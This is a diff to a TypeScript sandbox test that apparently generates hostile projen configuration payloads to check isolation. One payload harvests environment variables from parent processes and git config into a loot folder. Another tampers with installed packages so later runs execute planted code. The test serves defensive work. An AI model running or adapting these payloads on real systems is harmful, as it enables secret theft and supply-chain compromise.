@@ -76,7 +76,8 @@ const ROOT = process.getuid?.() === 0;
 const commitOf = (seed: Seed) => (seed.hostile ? hostileCommits[seed.hostile] : seed.edited ? editedCommit : generatedCommit);
 
 /**
- * What a hostile domain team's `.projenrc.ts` runs (from `hostile.js`): `exfiltrate` writes its environment,
+ * What a hostile domain team's `.projenrc.ts` runs (from `hostile.js`), on every run that computes the
+ * upgrade (the first run's findings are kept): `exfiltrate` writes its environment,
  * the environment of every process above it (the platform's among them) and git's configuration
  * to the loot folder; `plant` rewrites a file of its installed packages so that any later
  * `npx projen` that loads it (its own, or another repository's) leaves a mark in the loot folder.
@@ -93,7 +94,8 @@ function hostileCode(kind: 'exfiltrate' | 'plant'): string {
       '  pid = Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1]);',
       '}',
       'try { found.git = cp.execSync("git config --list --show-origin", { encoding: "utf8" }); } catch (error) { found.git = String(error.message); }',
-      'fs.writeFileSync(path.join(LOOT, "exfiltrated.json"), JSON.stringify(found));',
+      // What the first run found is kept: a re-run (another sandbox user) may not overwrite it.
+      'try { fs.writeFileSync(path.join(LOOT, "exfiltrated.json"), JSON.stringify(found), { flag: "wx" }); } catch {}',
     ].join('\n') + '\n';
   }
   return common + [
@@ -107,7 +109,7 @@ function hostileCode(kind: 'exfiltrate' | 'plant'): string {
     '    }',
     '  }',
     '}',
-    'fs.writeFileSync(path.join(LOOT, "plant-results.json"), JSON.stringify(results));',
+    'try { fs.writeFileSync(path.join(LOOT, "plant-results.json"), JSON.stringify(results), { flag: "wx" }); } catch {}',
     // Its own packages, loaded afresh, run what it planted.
     'try { cp.execFileSync(process.execPath, ["-e", "require(\'projen\'); require(\'sdlf-mesh\')"], { stdio: "ignore" }); } catch {}',
   ].join('\n') + '\n';
